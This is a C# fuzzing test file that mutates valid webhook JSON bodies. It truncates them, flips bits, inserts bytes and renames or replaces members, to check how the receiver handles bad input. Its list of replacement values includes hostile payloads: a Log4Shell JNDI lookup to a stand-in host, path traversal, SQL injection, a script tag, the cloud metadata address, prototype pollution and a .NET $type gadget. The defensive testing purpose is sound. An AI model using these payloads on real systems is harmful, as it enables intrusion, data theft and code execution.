using System.Text;
using System.Text.Json.Nodes;

namespace Hookswitch.Tests.Doors;

/// <summary>Good bodies to which something was done, by chance that can be repeated. Some stay good: whoever sends them has to see that.</summary>
internal static class BodyMutations
{
    /// <summary>As JSON: what stands where something else should.</summary>
    private static readonly string[] Values =
    [
        "null", "true", "false", "0", "-1", "7", "1.5", "1e400", "-1e400", "9223372036854775808", "99999999999999999999999", "2147483648", "\"\"", "\" \"", "\"x\"", "\"\\u0000\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u202e\"", "\"a\\r\\nb\"",
        "\"../../etc/passwd\"", "\"' OR 1=1 --\"", "\"<script>\"", "\"${jndi:ldap://evil.example/a}\"", "\"http://169.254.169.254/\"", "\"#microsoft.graph.call\"", "\"2026-13-45T99:99:99Z\"", "\"PT-5M\"", "\"P99999999999D\"", "[]", "{}", "[null]", "[[[]]]", "[{}]", "{\"\":null}", "{\"@odata.type\":7}",
        "{\"@odata.type\":\"#microsoft.graph.none\"}", "{\"__proto__\":{\"a\":1}}", "{\"$type\":\"System.Diagnostics.Process\"}", "{\"$ref\":\"1\"}", "{\"$id\":\"1\",\"$ref\":\"1\"}",
    ];

    private static readonly byte[][] Pieces =
        [[0], [0xFF], [0xC0, 0x80], [0xED, 0xA0, 0x80], [.. "\""u8], [.. "{"u8], [.. "}"u8], [.. "["u8], [.. "]"u8], [.. ","u8], [.. ":"u8], [.. "\\"u8], [.. "null"u8], [.. "\\u"u8], [.. "/*"u8], [.. "1e999"u8], [.. "\r\n"u8]];

    /// <summary>One of them.</summary>
    public static (string What, byte[] Body) Next(Random random, string good) => random.Next(10) switch
    {
        0 => Bytes("cut off", good, bytes => bytes[..random.Next(bytes.Length)]),
        1 => Bytes("a bit turned", good, bytes => Turned(bytes, random)),
        2 or 3 => Bytes("a piece put in", good, bytes => Cut(bytes, random.Next(bytes.Length), 0, Pieces[random.Next(Pieces.Length)])),
        4 => Bytes("a piece taken out", good, bytes => Cut(bytes, random.Next(bytes.Length), 1 + random.Next(12), [])),
        5 => Bytes("a piece twice", good, bytes => Twice(bytes, random)),
        6 => Member("taken away", good, random, (parent, step, _) => Remove(parent, step)),
        7 => Member("called otherwise", good, random, (parent, step, value) => Rename(parent, step, value, random)),
        _ => Replaced(good, random),
    };

    private static (string, byte[]) Bytes(string what, string good, Func<byte[], byte[]> change) => (what, change(Encoding.UTF8.GetBytes(good)));

    private static (string, byte[]) Replaced(string good, Random random)
    {
        var value = random.Next(12) switch
        {
            0 => $"\"{new string('x', 5_000)}\"",
            1 => $"{new string('[', 40)}{new string(']', 40)}",
            2 => $"[{string.Join(',', Enumerable.Repeat("{}", 400))}]",
            _ => Values[random.Next(Values.Length)],
        };
        var (what, body) = Member("replaced", good, random, (parent, step, _) => Set(parent, step, "(here)"));
        return ($"{what} by {value[..Math.Min(value.Length, 40)]}", Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(body).Replace("\"(here)\"", value, StringComparison.Ordinal)));
    }

    private static (string, byte[]) Member(string what, string good, Random random, Action<JsonNode, object, JsonNode?> change)
    {
        var body = JsonNode.Parse(good)!;
        var paths = BrokenBodies.Paths(body, []).ToArray();
        var path = paths[random.Next(paths.Length)];
        change(BrokenBodies.At(body, path[..^1])!, path[^1], BrokenBodies.At(body, path));
        return ($"{string.Join('.', path)} {what}", Encoding.UTF8.GetBytes(body.ToJsonString()));
    }

    private static void Remove(JsonNode parent, object step)
    {
        if (step is int i)
        {
            parent.AsArray().RemoveAt(i);
        }
        else
        {
            parent.AsObject().Remove((string)step);
        }
    }

    private static void Rename(JsonNode parent, object step, JsonNode? value, Random random)
    {
        if (step is string name)
        {
            parent.AsObject().Remove(name);
            parent[random.Next(3) switch { 0 => name.ToUpperInvariant(), 1 => name + "s", _ => "\u0000" + name }] = value;
        }
        else
        {
            parent.AsArray().Add(value?.DeepClone());
        }
    }

    private static void Set(JsonNode parent, object step, string value)
    {
        if (step is int i)
        {
            parent[i] = value;
        }
        else
        {
            parent[(string)step] = value;
        }
    }

    private static byte[] Turned(byte[] bytes, Random random)
    {
        bytes[random.Next(bytes.Length)] ^= (byte)(1 << random.Next(8));
        return bytes;
    }

    private static byte[] Twice(byte[] bytes, Random random)
    {
        var start = random.Next(bytes.Length);
        return Cut(bytes, start, 0, bytes[start..(start + random.Next(bytes.Length - start))]);
    }

    private static byte[] Cut(byte[] bytes, int start, int length, byte[] piece) => [.. bytes[..start], .. piece, .. bytes[Math.Min(start + length, bytes.Length)..]];
}
